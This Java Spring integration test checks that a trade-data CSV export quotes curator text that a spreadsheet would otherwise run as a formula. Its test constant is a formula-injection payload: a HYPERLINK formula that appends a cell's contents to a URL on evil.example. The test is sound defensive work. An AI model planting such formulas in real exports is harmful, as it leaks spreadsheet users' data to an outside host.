package org.kzcz.relations.trade.web;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.kzcz.relations.support.Curator;
import org.kzcz.relations.support.IntegrationTest;
import tools.jackson.databind.MappingIterator;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Curator text that a spreadsheet would run as a formula stays text in the CSV. The
 * figure written here is for years no seeded series reaches, and is deleted afterwards.
 */
@IntegrationTest
class TradeCsvFormulaTest {

	private static final String NOTE = "test: CSV formula injection";

	private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

	@Autowired
	MockMvcTester mvc;

	@Autowired
	JdbcClient jdbc;

	@AfterEach
	void deleteTheFigure() {
		this.jdbc.sql("delete from trade_figure where note = :note").param("note", NOTE).update();
	}

	@Test
	void aUnitStartingAFormulaIsQuotedTextInTheSeriesCsvOnStoredAndDerivedRows() throws Exception {
		Map<String, Object> figure = Map.ofEntries(Map.entry("reporter", "KZ"), Map.entry("country", "KZ"),
				Map.entry("partner", "CZ"), Map.entry("indicator", "EXPORTS"), Map.entry("periodKind", "YEAR"),
				Map.entry("periodStart", "2031-01-01"), Map.entry("periodEnd", "2031-12-31"), Map.entry("value", 125),
				Map.entry("currency", "USD"), Map.entry("scale", "MILLION"), Map.entry("unit", FORMULA),
				Map.entry("note", NOTE),
				Map.entry("sources", List.of(Map.of("source", "dyussenbayev-interview-2025", "statedChangePct", 25))));
		assertThat(
				Curator.create(this.mvc).post("/api/v1/trade-figures", JsonMapper.shared().writeValueAsString(figure)))
			.hasStatus(HttpStatus.CREATED);

		String series = "/api/v1/trade/series?country=KZ&partner=CZ&indicator=EXPORTS&reporter=KZ&from=2030&to=2031";
		String csv = this.mvc.get()
			.uri(series)
			.accept(MediaType.parseMediaType("text/csv"))
			.exchange()
			.getResponse()
			.getContentAsString();
		List<Map<String, String>> rows = parse(csv);
		assertThat(rows).extracting((row) -> row.get("derived")).containsExactly("true", "false");
		assertThat(rows).extracting((row) -> row.get("unit")).containsOnly("'" + FORMULA);
		assertThat(rows).extracting((row) -> row.get("value")).containsExactly("100.0", "125");
		assertThat(this.mvc.get().uri(series)).bodyJson().extractingPath("$.points[1].unit").isEqualTo(FORMULA);
	}

	private static List<Map<String, String>> parse(String csv) {
		try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
			.with(CsvSchema.emptySchema().withHeader())
			.readValues(csv)) {
			return it.readAll();
		}
	}

}
